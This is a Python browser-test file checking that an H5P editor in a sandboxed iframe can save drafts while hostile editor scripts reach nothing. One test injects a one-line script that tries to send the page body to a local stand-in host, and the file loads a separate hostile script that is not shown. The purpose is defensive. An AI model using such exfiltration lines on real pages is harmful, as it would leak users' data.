"""H5P's own editor in its frame: a stand-in for it writes a content, and one that is hostile gets
nowhere."""

import json
import re
import secrets
from pathlib import Path

import pytest
from django.contrib.auth.models import Group
from wagtail.models import Locale

from activities import copying, importing, playing
from activities.models import EditorBundle, H5PContent, H5PLibrary
from activities.official import bundling
from people.models import User
from tests.activities.official import EDITOR, editor, sha256
from tests.activities.packing import PNG, package
from tests.browser.test_activities import until
from tests.conftest import PASSWORD

pytestmark = pytest.mark.skipif(not playing.is_installed(), reason="no player (npm ci)")

HOSTILE = (Path(__file__).parent / "contents/editor-hostile.js").read_text()


def brought(script: str = EDITOR) -> None:
    file = editor(script)
    bundling.install(bundling.check(file, sha256(file)), None)


@pytest.fixture
def content(site, transactional_db) -> H5PContent:
    H5PLibrary.objects.filter(machine_name__startswith="H5P.").delete()
    importing.load(
        importing.check(package(), "salt.h5p", may_install=True), locale=Locale.get_default()
    )
    title = f"Loaf {secrets.token_hex(4)}"
    yield copying.start("H5P.Salt 1.0", title, Locale.get_default(), None)
    EditorBundle.objects.all().delete()


@pytest.fixture
def opened(window, content):
    """Opens the editor's page as a trainer; returns the frame."""

    def open_editor(script: str = EDITOR):
        brought(script)
        trainer = User.objects.create_user(f"timur-{secrets.token_hex(4)}@example.org", PASSWORD)
        trainer.groups.add(Group.objects.get(name="Trainers"))
        window.sign_in(trainer.email)
        window.open(f"/admin/interactive/{content.pk}/full/")
        return window.page.frame_locator("iframe.h5p-full")

    return open_editor


def test_a_content_is_written_and_saved_as_a_draft(window, content, opened, tmp_path):
    loaf = tmp_path / "loaf.png"
    loaf.write_bytes(PNG)
    frame = opened()
    page = window.page
    # However many types other tests have left here.
    for told in (re.compile(r"[1-9]\d* types"), "4 fields", "translations true", "Hello"):
        frame.get_by_text(told).wait_for()
    assert frame.locator("#title").input_value() == content.title
    frame.locator("#text").fill("<p>Knead.</p>")
    frame.locator("#file").set_input_files(loaf)
    frame.get_by_text("200 1").wait_for()
    # The picture is shown inside the frame, which has no session.
    until(page, lambda: frame.locator("#picture").evaluate("picture => picture.naturalWidth") == 1)
    page.get_by_role("button", name="Save draft").press("Enter")
    page.wait_for_url("**/edit/*/")
    page.get_by_text("is saved.").wait_for()
    draft = H5PContent.objects.get(pk=content.pk).get_latest_revision_as_object()
    params = draft.body["params"]
    assert params["text"] == "<p>Knead.</p>"
    assert params["picture"]["path"].startswith("images/loaf-")
    assert list(draft.media) == [params["picture"]["path"]]
    # What the stand-in may not do, it was told so; nothing else went wrong.
    assert [text for text in window.complaints if "403" not in text] == []


def test_a_title_is_asked_for_and_nothing_is_lost(window, content, opened):
    frame = opened()
    frame.locator("#title").fill("")
    frame.locator("#text").fill("<p>Knead.</p>")
    window.page.get_by_role("button", name="Save draft").press("Enter")
    window.page.get_by_text("Give the content a title.").wait_for()
    assert frame.locator("#text").input_value() == "<p>Knead.</p>"


def test_what_somebody_saved_meanwhile_is_not_lost(window, content, opened):
    frame = opened()
    frame.get_by_text("Hello").wait_for()
    content.save_revision()
    frame.locator("#text").fill("<p>Knead.</p>")
    window.page.get_by_role("button", name="Save draft").press("Enter")
    window.page.get_by_text("Somebody saved this content meanwhile.").wait_for()
    assert frame.locator("#text").input_value() == "<p>Knead.</p>"


def test_a_hostile_editor_reaches_nothing(window, content, opened):
    count = content.revisions.count()
    frame = opened(HOSTILE)
    frame.locator("body[data-found]").wait_for(timeout=20_000)
    found = json.loads(frame.locator("body").get_attribute("data-found"))
    assert found == dict.fromkeys(found, False), found
    assert len(found) >= 14
    assert content.revisions.count() == count
    assert window.page.url.endswith("/full/")
    window.open("/en/my-learning/")
    assert window.page.url.endswith("/en/my-learning/"), "still signed in"


def test_the_frame_cannot_become_another_site(window, content, opened):
    """What would get out with it: whatever the editor was told."""
    opened('location.assign("http://127.0.0.1:9/?" + document.body);')
    window.page.wait_for_timeout(1500)
    assert [text for text in window.complaints if "frame-src" in text]
